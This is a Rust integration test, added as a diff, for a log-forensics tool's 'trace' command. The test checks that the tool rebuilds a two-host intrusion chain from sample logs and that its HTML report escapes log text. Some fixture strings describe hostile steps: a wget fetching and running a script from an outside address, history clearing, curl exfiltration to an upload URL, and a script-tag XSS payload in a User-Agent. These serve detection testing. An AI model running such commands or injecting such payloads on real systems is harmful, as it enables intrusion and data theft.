@@ -1,0 +1,329 @@
+//! `tansa trace` on the bundled two-host intrusion (examples/logs): web01 writes traditional
+//! syslog in Asia/Tokyo local time without a year and nginx with +0900; db01 writes RFC 3339
+//! syslog, auditd epoch stamps and MySQL UTC. The attacker 45.141.87.23 probes the web server,
+//! brute-forces ssh on web01, gets in, escalates, plants an account, downloads and runs a
+//! script, clears history, hops to db01 from web01's internal address, dumps the database and
+//! uploads it. Benign users (deploy from 192.0.2.10, bob, alice, the app's MySQL connections)
+//! work on the same hosts the same day.
+
+mod common;
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use common::{json_lines, root, tansa};
+use serde_json::Value;
+
+fn store(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("tansa-trace-{name}-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    let out = tansa()
+        .args(["--data"])
+        .arg(&dir)
+        .args([
+            "analyze",
+            "--quiet",
+            "--timezone",
+            "Asia/Tokyo",
+            "examples/logs",
+        ])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    dir
+}
+
+fn trace(data: &Path, args: &[&str]) -> (Value, Vec<Value>) {
+    let out = tansa()
+        .arg("--data")
+        .arg(data)
+        .args([
+            "--format",
+            "json",
+            "trace",
+            "--hosts",
+            "examples/hosts.toml",
+        ])
+        .args(args)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let mut lines = json_lines(&out.stdout);
+    let summary = lines.remove(0);
+    assert_eq!(summary["type"], "summary");
+    (summary, lines)
+}
+
+/// The step whose raw line contains `needle`: its index, phase and host.
+fn find<'a>(steps: &'a [Value], needle: &str) -> (usize, &'a Value) {
+    steps
+        .iter()
+        .enumerate()
+        .find(|(_, s)| s["raw"].as_str().unwrap_or("").contains(needle))
+        .unwrap_or_else(|| panic!("no step with {needle:?}"))
+}
+
+#[test]
+fn the_attackers_address_leads_through_both_hosts_in_order() {
+    let data = store("chain");
+    let (summary, steps) = trace(&data, &["45.141.87.23"]);
+    // the whole chain, in this order, each with its host and phase
+    let chain = [
+        ("GET /.env", "web01", "reconnaissance"),
+        (
+            "Invalid user test from 45.141.87.23",
+            "web01",
+            "credential_access",
+        ),
+        (
+            "Accepted password for deploy from 45.141.87.23",
+            "web01",
+            "initial_access",
+        ),
+        ("COMMAND=/bin/bash", "web01", "privilege_escalation"),
+        (
+            "useradd[5543]: new user: name=support",
+            "web01",
+            "persistence",
+        ),
+        ("add 'support' to group 'sudo'", "web01", "persistence"),
+        (
+            "COMMAND=/usr/bin/wget -q http://203.0.113.200/x.sh",
+            "web01",
+            "execution",
+        ),
+        ("COMMAND=/bin/sh /tmp/.x.sh", "web01", "execution"),
+        (
+            "COMMAND=/usr/bin/bash -c history -c",
+            "web01",
+            "defense_evasion",
+        ),
+        (
+            "Accepted password for deploy from 10.0.0.5",
+            "db01",
+            "lateral_movement",
+        ),
+        ("comm=\"id\"", "db01", "discovery"),
+        ("comm=\"mysqldump\"", "db01", "collection"),
+        ("INTO OUTFILE '/tmp/shop.sql'", "db01", "collection"),
+        ("comm=\"curl\"", "db01", "exfiltration"),
+        ("comm=\"bash\"", "db01", "defense_evasion"),
+    ];
+    let mut last = 0;
+    for (needle, host, phase) in chain {
+        let (i, s) = find(&steps, needle);
+        assert!(i >= last, "{needle:?} is out of order");
+        last = i;
+        assert_eq!(s["host"], host, "{needle}");
+        assert_eq!(s["phase"], phase, "{needle}: {s}");
+    }
+    // time order, UTC, with the host's local time beside it
+    let times: Vec<&str> = steps.iter().map(|s| s["time"].as_str().unwrap()).collect();
+    assert!(times.windows(2).all(|w| w[0] <= w[1]), "{times:?}");
+    let (_, login) = find(&steps, "Accepted password for deploy from 45.141.87.23");
+    assert_eq!(login["time"], "2026-03-14T09:14:48Z");
+    assert_eq!(login["local"], "2026-03-14 18:14:48 +09:00");
+    let (_, curl) = find(&steps, "comm=\"curl\"");
+    assert_eq!(curl["local"], "2026-03-14 09:19:58 +00:00");
+    // the brute force is one step with its count, not 141 lines
+    let (_, brute) = find(&steps, "Invalid user test from 45.141.87.23");
+    assert!(brute["count"].as_u64().unwrap() > 100, "{brute}");
+    // nothing of the benign users of the same hosts
+    for s in &steps {
+        let raw = s["raw"].as_str().unwrap();
+        for benign in [
+            "192.0.2.10",
+            "10.0.0.22",
+            "10.0.0.21",
+            "bob",
+            "alice",
+            "user: 'app'",
+            "'report'",
+            "CRON",
+            "198.51.100.23",
+        ] {
+            assert!(!raw.contains(benign), "benign activity in the chain: {raw}");
+        }
+    }
+    // the summary
+    assert_eq!(
+        summary["summary"]["hosts_reached"],
+        serde_json::json!(["db01", "web01"])
+    );
+    let access = summary["summary"]["access"].to_string();
+    assert!(
+        access.contains("password login as deploy from 45.141.87.23 on web01"),
+        "{access}"
+    );
+    assert!(access.contains("failed attempts"), "{access}");
+    let indicators = summary["indicators"].to_string();
+    for i in [
+        "203.0.113.200",
+        "/tmp/shop.sql",
+        "support",
+        "http://203.0.113.200/up",
+    ] {
+        assert!(
+            indicators.contains(i),
+            "indicator {i} missing: {indicators}"
+        );
+    }
+    let neighbours: Vec<&str> = summary["neighbours"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|n| n["ip"].as_str().unwrap())
+        .collect();
+    assert_eq!(neighbours.len(), 2, "{neighbours:?}");
+    assert!(neighbours.contains(&"45.141.87.12") && neighbours.contains(&"45.141.87.19"));
+    assert!(summary["alerts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|a| a["severity"] == "critical"));
+    let _ = std::fs::remove_dir_all(&data);
+}
+
+#[test]
+fn every_entity_kind_reaches_the_chain() {
+    let data = store("entities");
+    // the netblock: members and their roles
+    let (summary, steps) = trace(&data, &["45.141.87.0/24"]);
+    let nb = &summary["netblock"];
+    assert_eq!(nb["members"].as_array().unwrap().len(), 3, "{nb}");
+    assert_eq!(nb["got_in"], 1);
+    assert_eq!(nb["brute_forcers"], 3);
+    assert_eq!(nb["scanners"], 3);
+    let m23 = nb["members"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|m| m["ip"] == "45.141.87.23")
+        .unwrap();
+    assert!(m23["roles"].to_string().contains("got in"));
+    find(&steps, "comm=\"curl\"");
+    // a user, a host, an alert on db01 that names no address (traced back through the hop)
+    for entity in ["user:deploy", "host:db01"] {
+        let (_, steps) = trace(&data, &[entity]);
+        find(&steps, "comm=\"curl\"");
+        find(&steps, "Accepted password for deploy from 45.141.87.23");
+    }
+    let out = tansa()
+        .arg("--data")
+        .arg(&data)
+        .args([
+            "--format",
+            "json",
+            "sql",
+            "SELECT id FROM alerts WHERE host = 'db01' AND rule_id = 'tansa.host.log_tampering'",
+        ])
+        .output()
+        .unwrap();
+    let id = json_lines(&out.stdout)[0]["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let (summary, steps) = trace(&data, &[&id]);
+    find(&steps, "Accepted password for deploy from 45.141.87.23");
+    assert!(
+        summary["notes"].to_string().contains("traced back"),
+        "{summary}"
+    );
+    // without the inventory nothing says 10.0.0.5 is web01: no hop, and a note says why
+    let out = tansa()
+        .arg("--data")
+        .arg(&data)
+        .args(["--format", "json", "trace", "45.141.87.23"])
+        .output()
+        .unwrap();
+    let lines = json_lines(&out.stdout);
+    assert!(!lines.iter().any(|s| s["raw"]
+        .as_str()
+        .is_some_and(|r| r.contains("from 10.0.0.5"))));
+    assert!(
+        lines[0]["notes"].to_string().contains("hosts.toml"),
+        "{}",
+        lines[0]
+    );
+    // an ASN without enrichment, and nonsense, are clear errors
+    for (bad, msg) in [
+        ("AS64500", "source.as.number"),
+        ("two words", "not something to trace"),
+    ] {
+        let out = tansa()
+            .arg("--data")
+            .arg(&data)
+            .args(["trace", bad])
+            .output()
+            .unwrap();
+        assert!(!out.status.success());
+        assert!(String::from_utf8_lossy(&out.stderr).contains(msg), "{bad}");
+    }
+    let _ = std::fs::remove_dir_all(&data);
+}
+
+#[test]
+fn the_html_page_renders_in_chromium_with_log_text_as_text() {
+    let data = store("html");
+    let page = data.join("trace.html");
+    let out = tansa()
+        .arg("--data")
+        .arg(&data)
+        .args([
+            "--format",
+            "html",
+            "trace",
+            "--hosts",
+            "examples/hosts.toml",
+            "45.141.87.23",
+            "-o",
+        ])
+        .arg(&page)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let (_, steps) = trace(&data, &["45.141.87.23"]);
+    let chromium = ["chromium", "chromium-browser", "google-chrome"]
+        .into_iter()
+        .find(|c| {
+            Command::new(c)
+                .arg("--version")
+                .output()
+                .is_ok_and(|o| o.status.success())
+        })
+        .expect("chromium is needed (scripts/test installs it)");
+    let dom = Command::new(chromium)
+        .args(["--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"])
+        .arg(format!("file://{}", page.display()))
+        .output()
+        .unwrap();
+    let dom = String::from_utf8_lossy(&dom.stdout);
+    // the browser built the table: one row per step, the phases as data attributes
+    assert_eq!(
+        dom.matches("<tr class=\"step\"").count(),
+        steps.len(),
+        "{dom}"
+    );
+    assert!(dom.contains("data-phase=\"lateral_movement\" data-host=\"db01\""));
+    assert!(dom.contains("id=\"summary\""));
+    // the scanner's User-Agent carried a script tag: the DOM has it as text, not as an element
+    assert!(
+        dom.contains("zgrab/0.x &lt;script&gt;alert(1)&lt;/script&gt;"),
+        "UA not shown as text"
+    );
+    assert!(!dom.contains("<script>alert(1)"), "log text became markup");
+    let _ = std::fs::remove_dir_all(&data);
+    let _ = root();
+}
